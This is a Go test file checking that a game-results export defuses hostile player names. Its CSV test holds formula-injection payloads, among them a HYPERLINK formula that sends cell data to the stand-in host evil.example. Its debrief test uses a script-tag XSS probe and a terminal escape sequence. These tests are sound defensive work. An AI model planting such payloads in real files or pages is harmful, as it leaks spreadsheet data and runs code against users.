package workshop

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// storeGames writes finished games under the given names straight into a
// room folder's results, as a forged results.jsonl would hold them.
func storeGames(t *testing.T, dir string, names ...string) {
	t.Helper()
	st, _, _, err := openStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer st.close()
	res := finishedGame(t, 3)
	for i, name := range names {
		r := res
		r.Summary.Budget = -250000 - int64(i) // a number, negative: it must stay a number
		if err := st.append(Record{Player: name, Finished: time.Now().UTC(), Result: r}); err != nil {
			t.Fatal(err)
		}
	}
}

// A spreadsheet runs a cell that begins with =, +, - or @ as a formula;
// results.csv gives every text cell a leading quote instead.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "-2+3", "+1", "@SUM(A1:A9)", "\tx", "\rx", "ana"}
	storeGames(t, dir, evil...)
	csvPath, _, err := Export(dir, dir)
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int {
		for i, h := range rows[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %q", name)
		return -1
	}
	player, budget := col("player"), col("budget")
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		name := row[player]
		seen[name] = true
		if strings.ContainsAny(name[:1], "=+-@\t\r") {
			t.Errorf("a player cell a spreadsheet runs as a formula: %q", name)
		}
		if !strings.HasPrefix(row[budget], "-25000") {
			t.Errorf("the budget is no longer a negative number: %q", row[budget])
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'-2+3", "'+1", "'@SUM(A1:A9)", "'\tx", "'\rx", "ana"} {
		if !seen[want] {
			t.Errorf("no player %q in %v", want, seen)
		}
	}
}

// The room's debrief shows what the results say as text, never as markup.
func TestExportDebriefEscapes(t *testing.T) {
	dir := t.TempDir()
	storeGames(t, dir, "<script>alert(1)</script>", "\x1b[2Jana")
	_, mdPath, err := Export(dir, filepath.Join(dir, "out"))
	if err != nil {
		t.Fatal(err)
	}
	md, _ := os.ReadFile(mdPath)
	if strings.Contains(string(md), "<script") || strings.Contains(string(md), "\x1b") {
		t.Errorf("the debrief carries markup or controls:\n%s", md)
	}
	if !strings.Contains(string(md), `\\x1b\[2Jana`) {
		t.Errorf("the name is not shown escaped:\n%s", md)
	}
}
